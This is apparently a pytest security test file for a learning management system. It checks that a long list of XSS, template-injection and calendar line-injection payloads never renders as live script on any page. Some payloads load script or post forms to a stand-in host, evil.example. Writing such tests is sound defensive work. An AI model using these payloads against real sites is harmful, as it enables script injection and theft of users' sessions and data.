"""Whatever people and files say, no page runs it: payloads in every text of the database."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from sqlalchemy import JSON, String, Table, update

from lms.core.db import Base
from lms.core.markdown import render
from lms.people import sign_in
from lms.people.account.rules import calendar_token
from tests.security.conftest import World
from tests.security.forms import walk
from tests.test_routes import address, rules

PAYLOADS = (
    "<script>zq(1)</script>",
    "<ScRiPt >zq(1)</sCriPt >",
    "<script src=//evil.example/zq.js></script>",
    "<scr<script>ipt>zq(1)</scr</script>ipt>",
    "</script><script>zq(1)</script>",
    "</title><script>zq(1)</script>",
    "</textarea><script>zq(1)</script>",
    "</style><script>zq(1)</script>",
    "</option></select><img src=x onerror=zq(1)>",
    "--><script>zq(1)</script>",
    "]]><script>zq(1)</script>",
    "<img src=x onerror=zq(1)>",
    "<img src='x' onerror='zq(1)'>",
    '<img src="x" onerror="zq(1)">',
    "<img/src=x/onerror=zq(1)>",
    "<img src=x onerror=zq(1)//",
    "<img src=`x` onerror=zq(1)>",
    "<IMG SRC=javascript:zq(1)>",
    "<svg onload=zq(1)>",
    "<svg/onload=zq(1)>",
    "<svg><script>zq(1)</script></svg>",
    "<svg><animate onbegin=zq(1) attributeName=x>",
    "<math><mi//xlink:href='data:x,<script>zq(1)</script>'>",
    "<body onload=zq(1)>",
    "<iframe src=javascript:zq(1)></iframe>",
    "<iframe srcdoc='<script>zq(1)</script>'></iframe>",
    "<object data=javascript:zq(1)>",
    "<embed src=javascript:zq(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:zq(1)'>",
    "<link rel=stylesheet href=//evil.example/zq.css>",
    "<style>@import '//evil.example/zq.css';</style>",
    "<form action=//evil.example><input name=zq>",
    "<button formaction=javascript:zq(1)>x</button>",
    "<input autofocus onfocus=zq(1)>",
    "<select autofocus onfocus=zq(1)>",
    "<textarea autofocus onfocus=zq(1)>",
    "<details open ontoggle=zq(1)>",
    "<video><source onerror=zq(1)></video>",
    "<audio src=x onerror=zq(1)>",
    "<marquee onstart=zq(1)>",
    "<a href=javascript:zq(1)>x</a>",
    "<a href='java\tscript:zq(1)'>x</a>",
    "<a href='&#106;avascript:zq(1)'>x</a>",
    "<a href='\x01javascript:zq(1)'>x</a>",
    "<a href=data:text/html,<script>zq(1)</script>>x</a>",
    "<a href=vbscript:zq(1)>x</a>",
    "<div style=width:expression(zq(1))>",
    "<div style='background:url(javascript:zq(1))'>",
    "<template><script>zq(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=zq(1)>'>",
    "<xss-zq onclick=zq(1) tabindex=1>",
    "<p hx-get=//evil.example/zq hx-trigger=load>",
    "<p data-dialog=zq data-copy=zq>",
    "' onmouseover=zq(1) x='",
    '" onmouseover="zq(1)" x="',
    "` onmouseover=zq(1) x=`",
    " onmouseover=zq(1) ",
    "'-zq(1)-'",
    '";zq(1)//',
    "javascript:zq(1)",
    "JaVaScRiPt:zq(1)",
    "data:text/html,<script>zq(1)</script>",
    "//evil.example/zq",
    "{{7*7}}zq",
    "{% import 'os' as zq %}",
    "${zq(1)}",
    "#{zq(1)}",
    "%(zq)s %s %n",
    "\u003cscript\u003ezq(1)\u003c/script\u003e",
    "\uff1cscript\uff1ezq(1)\uff1c/script\uff1e",
    "&lt;script&gt;zq(1)&lt;/script&gt;",
    "&#60;script&#62;zq(1)&#60;/script&#62;",
    "\u2028<script>zq(1)</script>",
    "\u202e<script>zq(1)</script>",
    "[x](javascript:zq(1))",
    "![x](javascript:zq(1))",
    "[x](data:text/html;base64,PHNjcmlwdD56cSgxKTwvc2NyaXB0Pg==)",
    "<javascript:zq(1)>",
    '[x](https://x "onmouseover=zq(1)")',
    '![x" onerror="zq(1)](x.png)',
)
ALL = " ".join(PAYLOADS)
ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href")
NOT_TEXT = {
    "slug", "email", "kind", "season", "purpose", "language", "time_zone", "working_weekdays",
    "role", "token_hash", "password_hash", "email_hash", "sha256", "media_type", "digest", "key",
    "path", "url", "question", "html", "claimed_by", "ended_why", "endpoint", "location", "due",
    "subject_type", "version_num",
}  # fmt: skip
"""Columns that hold what we chose ourselves, or (html) what the sanitiser made."""
NOT_JSON = {"settings", "payload", "options", "weeks", "due"}


class Live(HTMLParser):
    """Collects what a browser would run or load from elsewhere."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        if "zq" in tag or tag in ("iframe", "object", "embed", "base", "style", "xss-zq"):
            self.found.append(tag)
        for name, value in attrs:
            target = "".join(c for c in value or "" if c > " ").lower()
            loads = name in ADDRESSES and target.startswith(
                ("javascript:", "vbscript:", "data:text", "//", "http://evil", "https://evil")
            )
            odd = name.startswith(("on", "hx-")) or name == "style" or "zq" in name
            if loads or odd or (tag == "script" and name == "src" and "/static/" not in target):
                self.found.append(f"{tag} {name}={(value or '')[:60]}")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.found.append(f"script: {data[:60]}")


def live(html: str) -> list[str]:
    parser = Live()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_checker_and_the_sanitiser_agree_on(payload: str) -> None:
    assert live(render(payload)) == []
    assert live(render(f"- a\n\n    > {payload}\n\n| a |\n|---|\n| {payload} |\n")) == []


def test_the_checker_sees_what_is_alive() -> None:
    seen = [payload for payload in PAYLOADS if live(f"<p title='x'>{payload}</p>")]
    assert len(seen) > 45


def test_no_text_of_the_database_comes_alive_on_any_page(small_world: World) -> None:
    readers = {who: small_world.browser(who) for who in ("ada", "ines", "ravi", "noa", "maya")}
    poison(small_world)
    start = [
        address(small_world.app, rule, small_world.samples)
        for rule, method in rules(small_world.app)
        if method == "GET"
    ]
    alive, with_payload = [], set()
    for who, reader in readers.items():
        for url, html in walk(reader, start):
            alive += [(who, url, what) for what in live(html)]
            if "zq(1)" in html:
                with_payload.add(url)
    assert alive == []
    assert len(with_payload) > 40


def poison(world: World) -> None:
    """Put every payload into every text that a person or a file could have written."""
    with world.database.writing() as session:
        for table in Base.metadata.sorted_tables:
            values = dict(poisoned(table))
            if values:
                session.execute(update(table).values(values))


def poisoned(table: Table) -> Any:
    for column in table.columns:
        if isinstance(column.type, JSON) and column.name not in NOT_JSON:
            yield column.name, {"step": ALL, "person": ALL, "name": ALL, "changes": {"name": ALL}}
        elif isinstance(column.type, String) and column.name not in NOT_TEXT:
            yield column.name, f"{ALL} {table.name}"


def test_what_was_searched_for_comes_back_as_text(small_world: World) -> None:
    ada = small_world.browser("ada")
    fields = (("/search", "q"), ("/people", "q"), ("/audit", "who"), ("/board", "name"))
    for number, payload in enumerate(PAYLOADS):
        url, name = fields[number % len(fields)]
        for text in (payload, PAYLOADS[number - 1]):
            assert live(ada.get(url, query_string={name: text}).text) == [], (url, text)


def test_a_target_after_signing_in_comes_back_as_text(small_world: World) -> None:
    client = small_world.browser()
    for payload in PAYLOADS:
        page = client.get("/login", query_string={"next": f"/{payload}"}).text
        assert live(page) == []


def test_a_calendar_line_cannot_be_broken_out_of(small_world: World) -> None:
    with small_world.database.writing() as session:
        for table in ("step_version", "intake", "site"):
            session.execute(
                update(Base.metadata.tables[table]).values(
                    {
                        "title" if table == "step_version" else "name": (
                            "A\r\nEND:VEVENT\nX-EVIL:1\rX-EVIL:2\u2028X-EVIL:3; , \\"
                        )
                    }
                )
            )
    small_world.browser("maya").submit("/account/calendar")
    secret = small_world.app.extensions["belay"].config.secret_key
    token = calendar_token(secret, small_world.people.maya, 1)
    feed = small_world.browser().get(f"/calendar/{token}.ics")
    assert feed.status_code == 200
    lines = re.split(r"\r\n|\r|\n", feed.get_data(as_text=True).replace("\r\n ", ""))
    assert not [line for line in lines if line.startswith("X-EVIL")]


def test_initials_of_an_odd_name_are_letters() -> None:
    assert sign_in.initials("") == "?"
    assert sign_in.initials("\u202e \u2066") != ""
